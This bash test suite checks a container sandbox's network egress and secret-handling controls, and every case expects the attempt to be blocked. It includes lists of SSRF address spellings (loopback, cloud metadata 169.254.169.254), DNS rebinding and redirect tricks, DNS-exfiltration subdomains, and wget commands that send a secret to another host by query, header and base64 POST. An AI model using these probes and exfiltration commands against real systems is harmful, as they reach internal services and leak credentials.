#!/usr/bin/env bash
# Ways out of a container, and secrets in one, through the command line, with the engine
# at $NACRE_TEST_DOCKER: what can be seen of both with the engine's own eyes, and with
# clients of a busybox (wget by the proxy, nc by name and for tunnels).  egress.sh,
# secrets.sh and verdicts.sh run in containers as well.  As there, whoever is reached
# writes it down.
source "$(dirname "$0")/egress_lib.sh"

if [[ ! ${NACRE_TEST_DOCKER:-} || ! -S ${NACRE_TEST_DOCKER#unix://} ]]; then
  echo "no engine at NACRE_TEST_DOCKER"
  exit 77
fi
export DOCKER_HOST=$NACRE_TEST_DOCKER
trap '"$NACRE" keeper --quit >/dev/null 2>&1 || true
      chmod -R u+w "$scratch" && rm -rf "$scratch"' EXIT

# With RUNTIME=gvisor in gVisor's kernel, with RUNTIME=vm in a machine: a few cases, as
# their processes can't be looked into from here, and what decides about requests is
# outside either way.
level=container
more=()
if [[ ${RUNTIME:-} == gvisor ]]; then
  command -v runsc >/dev/null || { echo "no runsc (run .ci/setup --engine)"; exit 77; }
  level=$'container\n  runtime: gvisor'
elif [[ ${RUNTIME:-} == vm ]]; then
  level=vm
  more=(--allow-emulation)
fi
box() { network "$level" box.yaml "$@"; } # MODE HOST...
in_box=(run --policy box.yaml --image nacre-test-busybox "${more[@]}")
inside() { run "${in_box[@]}" "$@"; } # [OPTION...] -- WORD...

# A new vault; what is warm went by the old one.
fresh_vault() {
  "$NACRE" keeper --quit >/dev/null 2>&1 || true
  vault "$@"
}
secretive() { # INJECTION [MORE]
  secrets="injection: $1${2:+, $2}" box allowlist api.example.com other.example.org
}

# ---- ways out ----

by_each_way='
for host; do
  wget -qO /dev/null "http://$host/" && echo "by proxy: $host"
  printf "GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" "$host" |
    nc 127.0.1.1 80 | grep -q "nacre test server" && echo "by name: $host"
  case $host in *:[0-9][0-9] | *:[0-9][0-9][0-9][0-9]) to=$host ;; *) to=$host:443 ;; esac
  printf "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" "$to" "$to" |
    nc 127.0.0.1 3128 | grep -q "^HTTP/1.1 200" && echo "by tunnel: $host"
done 2>/dev/null
exit 0'

api='"address": "(93\.184\.216\.34|2606:2800:220:1:248:1893:25c8:1946)"'

# only_api HOST...: each host is asked in each way, api.example.com last, in one
# container; and that one alone is reached.
only_api() {
  net_reset
  inside -- sh -c "$by_each_way" sh "$@" api.example.com
  expect_status 0
  expect_out "by proxy: api.example.com
by name: api.example.com
by tunnel: api.example.com"
  is "requests" "$(count_requests)" 2
  is "tunnels" "$(count_connections '' 443)" 1
  is "connections elsewhere" "$(show_events event=connect | grep -cvE "$api")" 0
  is "datagrams" "$(count_datagrams)" 0
}

N01_spellings_of_addresses() {
  box allow-all
  only_api 2130706433 0x7f000001 017700000001 127.1 0x7f.1 0177.0.0.1 127.0.0.1 10.5 \
    0xa9fea9fe 0 0.0.0.0 10.0.0.5 169.254.169.254 168.63.129.16 localhost foo.localhost \
    '[::1]' '[::]' '[::ffff:127.0.0.1]' '[::ffff:7f00:1]' '[64:ff9b::7f00:1]' \
    '[2002:7f00:1::]' '[fd00:ec2::254]' '[fe80::1]'
}

N10_names_of_addresses_inside() {
  box allow-all
  only_api inside.example.com loop.example.com loop6.example.com zero.example.com \
    metadata.example.com metadata6.example.com azure.example.com mapped.example.com \
    nat64.example.com six-to-four.example.com teredo.example.com mixed.example.com \
    mixed6.example.com alias-inside.example.com empty.example.com
}

N09_a_name_that_changes_its_address() {
  box allowlist rebind.example.com api.example.com
  net_reset
  inside -- sh -c 'for path in first second; do
      wget -qO /dev/null "http://rebind.example.com/$path" && echo "$path"
    done; exit 0'
  expect_out "first"
  is "connections to the first answer" "$(count_connections 93.184.216.34)" 1
  is "connections in all" "$(count_connections)" 1
  only_api rebind.example.com
}

N11_redirects_to_what_is_not_allowed() {
  local to urls=()
  box allowlist api.example.com loop.example.com inside.example.com other.example.org
  for to in http://10.0.0.5/x http://169.254.169.254/ http://127.0.0.1:80/ \
    http://loop.example.com/ http://inside.example.com/ http://six.example.com/ \
    http://2130706433/ 'http://[::ffff:127.0.0.1]/' http://api.example.com:8080/; do
    urls+=("http://api.example.com/redirect?to=$to")
  done
  for to in 301 303 307 308; do
    urls+=("http://api.example.com/redirect?code=$to&to=http://10.0.0.5/x")
  done
  net_reset
  inside -- sh -c 'for url; do
      wget -qO /dev/null "$url" && echo "$url"
    done 2>/dev/null; exit 0' sh "${urls[@]}" \
    'http://api.example.com/redirect?to=http://other.example.org/x'
  expect_out "http://api.example.com/redirect?to=http://other.example.org/x"
  is "requests of the first hop" "$(count_requests api.example.com /redirect)" 14
  is "requests at the allowed end" "$(count_requests other.example.org /x)" 1
  is "requests in all" "$(count_requests)" 15
  is "connections elsewhere" "$(count_connections 10.0.0.5)$(count_connections \
    127.0.0.1)$(count_connections 169.254.169.254)$(count_connections '' 8080)" 0000
}

N24_hosts_that_nobody_allowed() {
  box allowlist api.example.com
  only_api other.example.org six.example.com c2VjcmV0.other.example.org \
    c2VjcmV0.api.example.com api.example.com.other.example.org 93.184.216.34 \
    api.example.com:8080 api.example.com:22
  is "queries for others" "$(show_events event=query | grep -cv '"api.example.com"')" 0
  net_reset
  inside -- sh -c 'for name in c2VjcmV0.other.example.org api.example.com; do
      nslookup "$name"
      for server in 8.8.8.8 93.184.216.34 127.0.0.1; do
        nslookup "$name" "$server"
      done
    done; true'
  is "queries" "$(count_queries)" 0
  is "datagrams" "$(count_datagrams)" 0
  expect_out_has 127.0.1.1 # the name that is allowed, by the door
}

# What the engine tells of its containers.
engine() { # PATH [CURL-OPTION...]
  curl -sS --noproxy '*' --max-time 20 --unix-socket "${DOCKER_HOST#unix://}" \
    "http://engine$1" "${@:2}"
}
containers() {
  engine '/containers/json?all=1' | grep -oE '"Id":"[0-9a-f]{64}"' | cut -c7-70
}
inspected() {
  local id
  engine '/containers/json?all=1'
  for id in $(containers); do
    engine "/containers/$id/json"
    engine "/containers/$id/top?ps_args=-eo%20pid,args" || true
  done
}
# Processes of the container, as the host numbers them.
processes() {
  local first process
  first=$(inspected | grep -oE '"Pid":[1-9][0-9]*' | cut -d: -f2 | head -n 1)
  for process in /proc/[0-9]*; do
    [[ $(readlink "$process/ns/pid") != "$(readlink "/proc/$first/ns/pid")" ]] ||
      echo "${process#/proc/}"
  done
}

# hold OPTION... -- sh -c TEXT: in the background, at TEXT's end until let_go.
hold() {
  [[ -p hold ]] || mkfifo hold
  exec 9<>hold
  input=hold start "${in_box[@]}" "${@:1:$#-1}" "${*: -1}; echo up; read go"
  until_true 15 grep -q up "$scratch/out" || fail "it did not start"
}
let_go() {
  echo go >&9
  finish
  expect_status 0
}

N33_anything_but_http() {
  local its
  box allow-all
  net_reset
  hold -- sh -c '
    for port in 22 25 53 80 443 6379; do
      echo | nc -w 2 93.184.216.34 $port && echo "reached $port"
    done
    ping -c 1 -W 1 93.184.216.34 >/dev/null && echo reached by ping
    traceroute -w 1 -m 1 93.184.216.34 >/dev/null && echo reached by traceroute
    timeout 2 tftp -g -r x 93.184.216.34 && echo reached by tftp
    wget -qO - http://93.184.216.34/'
  # Nobody watches the engine's own network: what a container has of it is looked at.
  [[ $(inspected) == *'"NetworkMode":"none"'* ]] || fail "$(inspected)"
  its=$(processes)
  its=/proc/${its%%$'\n'*}/net
  is "its interfaces" "$(tail -n +3 "$its/dev" | cut -d: -f1 | tr -d ' ')" lo
  is "its routes" "$(tail -n +2 "$its/route" | wc -l)" 0
  let_go
  expect_out "nacre test server at 93.184.216.34
up"
  is "connections" "$(count_connections)" 1
  is "datagrams" "$(count_datagrams)" 0
}

# ---- secrets ----

key_header='X-Key: {{secret:key}}'

S02_a_secret_is_used_and_never_held() {
  fresh_vault
  secretive host-boundary
  net_reset
  inside --secret key -- \
    wget -qO - --header "$key_header" 'http://api.example.com/reflect?header=X-Key'
  expect_status 0
  is "received" "$(received api.example.com)" 1
  is "over TLS" "$(count_events event=request tls=true)" 1
  expect_out_lacks "$VALUE"
  expect_out_has "[redacted:key]" # the server gave it back
  # Not without leave, to no other host, not by a tunnel that nobody looks into.
  net_reset
  inside -- wget -qO - --header "$key_header" http://api.example.com/
  inside --secret key -- wget -qO - --header "$key_header" http://other.example.org/
  inside --secret key -- wget -qO - --header "$key_header" \
    'http://api.example.com/redirect?to=http://other.example.org/'
  is "received elsewhere" "$(received other.example.org)" 0
  is "received" "$(seen_anywhere)" 1 # by the host that sent its client away
  net_reset
  inside --secret key -- sh -c "printf 'CONNECT api.example.com:443 HTTP/1.1\r\nHost: \
api.example.com:443\r\n\r\n' | nc 127.0.0.1 3128"
  expect_out_has "HTTP/1.1 403 call-http"
  is "connections" "$(count_connections)" 0
  fresh_vault policy:another
  inside --secret key -- wget -qO - --header "$key_header" http://api.example.com/
  expect_status 126
  is "connections" "$(count_connections)" 0
}

# in_memory PID...: those whose memory holds the value.
in_memory() {
  printf %s "$VALUE" | python3 -c '
import re, sys
value = sys.stdin.buffer.read()
for pid in sys.argv[1:]:
    found = False
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            start, end, rights = re.match("([0-9a-f]+)-([0-9a-f]+) (....)", line).groups()
            if rights[0] != "r":
                continue
            try:
                memory.seek(int(start, 16))
                found = found or value in memory.read(int(end, 16) - int(start, 16))
            except (OSError, ValueError, OverflowError):
                pass
    if found:
        print(pid)' "$@"
}

# Of nacre's and of the engine's, its log and the container's layers among them.
files_with_it() {
  grep -rlsaF -D skip -- "$VALUE" "$scratch" "$(dirname "${DOCKER_HOST#unix://}")" |
    grep -v "^$NACRE_NET_LOG" || true
}

S17_it_is_nowhere_but_with_the_guest_that_has_it() {
  local injection its
  fresh_vault
  for injection in host-boundary environment file-mount; do
    secretive "$injection"
    net_reset
    hold --secret key=KEY -- sh -c '
      wget -qO - --header "X-Key: {{secret:key}}" \
        "http://api.example.com/reflect?header=X-Key"'
    its=$(processes)
    [[ $its ]] || fail "no process of the container was found"
    is "told by the engine with $injection" "$(inspected | grep -caF -- "$VALUE")" 0
    last=("$injection: whose words or environment hold the value")
    case $injection in
      host-boundary) # it was used, and given back
        is "received" "$(received)" 1
        is "processes that hold it" "$(in_memory $its)" "" ;;
      environment) # the control: it can be found
        [[ $(in_memory $its) ]] || fail "the guest has none"
        for found in $(who_shows_it); do
          grep -qx "${found#/proc/}" <<<"$its" ||
            fail "$found: $(tr '\0' ' ' <"$found/cmdline")"
        done ;;
    esac
    [[ $injection == environment ]] || is "processes that show it" "$(who_shows_it)" ""
    is "files that hold it with $injection" "$(files_with_it)" ""
    let_go
    is "files that hold it after $injection" "$(files_with_it)" ""
  done
  run audit show --json
  expect_out_lacks "$VALUE"
}
S03_a_guest_that_holds_it_can_not_send_or_say_it() {
  local send
  fresh_vault
  secretive environment 'leak_detection: {enabled: true}'
  inside --secret key=KEY -- sh -c 'printf %s "$KEY" | wc -c'
  expect_out "${#VALUE}"
  inside --secret key=KEY -- \
    sh -c 'echo "$KEY"; printf %s "$KEY" | base64; echo "$KEY" >&2'
  expect_out_has "[redacted:key]"
  expect_out_lacks "$VALUE"
  expect_out_lacks "$(printf %s "$VALUE" | base64)"
  expect_err_has "[redacted:key]"
  expect_err_lacks "$VALUE"
  net_reset
  inside --secret key=KEY -- sh -c '
    wget -qO - "http://other.example.org/?k=$KEY" && echo sent
    wget -qO - "http://api.example.com/?k=$KEY" && echo sent
    wget -qO - --header "X-Key: $KEY" http://other.example.org/ && echo sent
    wget -qO - --post-data "$(printf %s "$KEY" | base64)" http://other.example.org/ &&
      echo sent
    exit 0'
  expect_status 0
  expect_out ""
  is "connections" "$(count_connections)" 0
  inside --secret key=KEY -- wget -qO - --post-data hello http://other.example.org/
  expect_status 0
  is "an innocent request" "$(count_events event=request body=hello)" 1
}

S10_a_token_dies_at_its_time() {
  fresh_vault
  secretive host-boundary
  net_reset
  inside --token key=KEY --token-ttl-ms 6000 -- sh -c '
    get() { wget -qO /dev/null --header "X-Key: $KEY" "http://$1" && echo "sent $1"; }
    echo "$KEY"
    get api.example.com/first; get other.example.org/; sleep 6; get api.example.com/second
    exit 0'
  expect_out_has nct_
  expect_out_lacks "$VALUE"
  expect_out_has "sent api.example.com/first"
  expect_out_lacks "/second"
  is "received in time" "$(received)" 1
  is "received at all" "$(seen_anywhere)" 1
  is "requests after it" "$(count_events event=request path=/second)" 0
}

# By a configuration, too: Clawpy's profiles, in the image that they name by naming none.
S10_of_clawpys_tokens_a_guest_holds_the_stand_in_alone() {
  local profile its
  engine '/images/nacre-test-busybox/tag?repo=nacre-sandbox&tag=bookworm-slim' -X POST
  fresh_vault agent:main
  for profile in agent heartbeat; do
    in_box=(exec --config "clawpy:$profile" --session s)
    run explain --config "clawpy:$profile" --token key=KEY --json
    expect_out_has '"rule":"request.tokens"'
    hold --token key=KEY 'echo "${KEY%%_*}"; env | grep -c "^KEY=nct_"'
    its=$(processes)
    is "processes of $profile that hold it" "$(in_memory $its)" ""
    inspected >told
    is "told by the engine of $profile" "$(grep -caF -e "$VALUE" told)" 0
    is "its stand-in, told by the engine" "$(grep -caE 'nct_[A-Za-z0-9_-]{9}' told)" 0
    is "files that hold it with $profile" "$(files_with_it)" ""
    let_go
    expect_out "nct
1
up"
    net_reset
    run "${in_box[@]}" --token key=KEY '
      for host in api.example.com other.example.org; do
        wget -qO - --header "X-Key: $KEY" "http://$host/reflect?header=X-Key"
      done; true'
    expect_out_lacks "$VALUE"
    case $profile in
      agent) is "connections without a network" "$(count_connections)" 0 ;;
      *)
        is "received by the host it is bound to" "$(received api.example.com)" 1
        is "received at all" "$(seen_anywhere)" 1
        expect_out_has "[redacted:key]" ;;
    esac
    # The next command of the same container has none.
    run "${in_box[@]}" 'echo "${KEY-none}"'
    expect_out "none"
  done
  in_box=(exec --config clawpy:agent --agent other)
  run "${in_box[@]}" --token key=KEY 'echo "$KEY"' # granted to another
  expect_status 126
  expect_out ""
  run keeper --quit
}

# In one warm container: what a command was given, the next one does not find.
S11_what_a_session_is_given_ends_with_the_command() {
  local injection token
  fresh_vault
  for injection in environment file-mount; do
    secretive "$injection"
    inside --session "$injection" --secret key=KEY -- sh -c '
      printf "%s" "${KEY-$(cat /run/secrets/key)}" | wc -c; touch /tmp/here'
    expect_status 0
    expect_out "${#VALUE}"
    inside --session "$injection" -- sh -c '
      ls /tmp; echo "${KEY-none}"; cat /run/secrets/key 2>/dev/null; true'
    expect_out "here
none"
  done
  is "told by the engine" "$(inspected | grep -caF -- "$VALUE")" 0
  is "files that hold it" "$(files_with_it)" ""
  # A token of the session is good in it, until it is revoked.
  secretive host-boundary
  run secret token key --scope session:s
  token=$(cat "$scratch/out")
  show() { # SESSION
    net_reset
    inside --session "$1" -- \
      wget -qO /dev/null --header "X-Key: $token" http://api.example.com/
  }
  show s
  is "received in its session" "$(received)" 1
  # So is the secret by its name, for the command that may.
  net_reset
  inside --session s --secret key -- \
    wget -qO - --header "$key_header" 'http://api.example.com/reflect?header=X-Key'
  expect_status 0
  expect_out "[redacted:key]"
  is "received by its name" "$(received)" 1
  show other
  is "received in another" "$(seen_anywhere)" 0
  run secret revoke session:s
  expect_out "1 token revoked"
  show s
  is "received after its revocation" "$(seen_anywhere)" 0
  run keeper --quit
  expect_status 0
}

V02_it_is_the_kernel_that_was_asked_for() {
  box allowlist api.example.com
  inside -- sh -c 'test -e /proc/sentry-meminfo && echo gvisor || echo docker'
  expect_out "${RUNTIME:-docker}"
}

if [[ ${RUNTIME:-} == vm ]]; then # each takes a machine, which takes its time to boot
  unset -f N24_hosts_that_nobody_allowed S02_a_secret_is_used_and_never_held \
    V02_it_is_the_kernel_that_was_asked_for
elif [[ ${RUNTIME:-} == gvisor ]]; then
  unset -f N01_spellings_of_addresses
fi
if [[ ${RUNTIME:-} ]]; then
  unset -f N09_a_name_that_changes_its_address \
    N10_names_of_addresses_inside N11_redirects_to_what_is_not_allowed \
    N33_anything_but_http S10_a_token_dies_at_its_time \
    S10_of_clawpys_tokens_a_guest_holds_the_stand_in_alone \
    S03_a_guest_that_holds_it_can_not_send_or_say_it \
    S17_it_is_nowhere_but_with_the_guest_that_has_it
fi

cases
